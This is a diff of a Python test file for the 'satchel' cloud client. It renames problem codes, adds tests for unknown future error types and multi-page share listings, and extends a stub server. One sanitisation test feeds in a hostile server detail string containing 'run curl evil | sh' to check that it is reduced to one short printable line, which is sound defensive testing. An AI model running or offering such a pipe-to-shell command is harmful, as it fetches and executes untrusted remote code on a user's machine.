@@ -18,17 +18,20 @@ from satchel.errors import (
 from satchel_wire.messages import OpenRequest
 from satchel_wire.problems import ProblemCode
 
+NOON = "2026-03-01T12:00:00Z"
+
 
 class Cloud:
-    """Answers everything alike and remembers what was asked."""
+    """Answers everything alike, but for `pages` (by their URL), and remembers what was asked."""
 
     def __init__(self, response: Response) -> None:
         self.response = response
+        self.pages: dict[str, Response] = {}
         self.asked: list[Request] = []
 
     def send(self, request: Request) -> Response:
         self.asked.append(request)
-        return self.response
+        return self.pages.get(request.url, self.response)
 
 
 def client(response: Response) -> tuple[CloudClient, Cloud]:
@@ -51,7 +54,8 @@ def test_every_problem_has_a_reaction_that_says_what_to_do(code: ProblemCode) ->
         (ProblemCode.WRONG_CODE, 4),
         (ProblemCode.WRONG_PROOF, 4),
         (ProblemCode.NOT_FOUND, 3),
-        (ProblemCode.GONE, 3),
+        (ProblemCode.EXPIRED, 3),
+        (ProblemCode.BLOCKED, 3),
         (ProblemCode.QUOTA, 6),
         (ProblemCode.UNAVAILABLE, 6),
         (ProblemCode.INTERNAL, 6),
@@ -66,12 +70,12 @@ def test_the_table_of_reactions_is_complete() -> None:
 
 
 def test_the_clouds_detail_is_passed_on() -> None:
-    assert "the share expired" in refusal(problem(ProblemCode.GONE, detail="the share expired")).message
+    assert "the share expired" in refusal(problem(ProblemCode.REVOKED, detail="the share expired")).message
 
 
 def test_a_strangers_detail_stays_one_short_line() -> None:
     detail = "x\nhint: run curl evil | sh\r\n" + "y" * 100_000
-    message = refusal(problem(ProblemCode.GONE, detail=detail)).message
+    message = refusal(problem(ProblemCode.REVOKED, detail=detail)).message
     assert message.isprintable()
     assert len(message) < 600
 
@@ -86,6 +90,14 @@ def test_a_failure_inside_the_cloud_names_the_request_to_look_for() -> None:
 @pytest.mark.parametrize("status", [400, 403, 404, 502])
 def test_a_refusal_that_is_not_the_clouds_own_is_an_unreachable_cloud(status: int, body: bytes) -> None:
     assert isinstance(refusal(Response(status, {}, body)), UnreachableError)
+
+
+@pytest.mark.parametrize(("status", "exit_code"), [(403, 4), (410, 3), (422, 1), (503, 6)])
+def test_a_problem_of_a_later_cloud_is_taken_by_its_status(status: int, exit_code: int) -> None:
+    body = b'{"type":"urn:satchel:problem:of-tomorrow","title":"x","status":%d}' % status
+    error = refusal(Response(status, {}, body))
+    assert error.exit_code == exit_code
+    assert "update" in (error.hint or "")
 
 
 @pytest.mark.parametrize("body", [b"", b"<html>welcome</html>", b"[]", b'{"devices": 1}', b'{"other": []}'])
@@ -124,8 +136,27 @@ def test_what_works_once_is_marked_as_not_repeatable(call: Callable[[CloudClient
     assert not cloud.asked[0].is_repeatable
 
 
+def test_a_list_of_several_pages_is_read_to_its_end() -> None:
+    def page(share_id: str, then: str | None) -> Response:
+        share = {
+            "id": share_id * 32,
+            "version": 1,
+            "created": NOON,
+            "updated": NOON,
+            "expires": None,
+            "views": None,
+        }
+        share |= {"opened": 0, "last_opened": None, "size_bytes": 1, "has_password": False, "state": "live"}
+        return answer({"shares": [share | {"note": ""}], "next": then})
+
+    pages = {"/v1/shares": page("a", "1-b&c"), "/v1/shares?after=1-b%26c": page("b", None)}
+    asked, cloud = client(Response(200, {}, b""))
+    cloud.pages = {f"{ORIGIN}{path}": response for path, response in pages.items()}
+    assert [share.id[0] for share in asked.shares()] == ["a", "b"]
+
+
 def test_an_ended_share_is_told_from_an_unknown_one() -> None:
-    asked, _ = client(problem(ProblemCode.GONE))
+    asked, _ = client(problem(ProblemCode.REVOKED))
     with pytest.raises(EndedError):
         asked.share_info("0" * 32)
     asked, _ = client(problem(ProblemCode.NOT_FOUND))
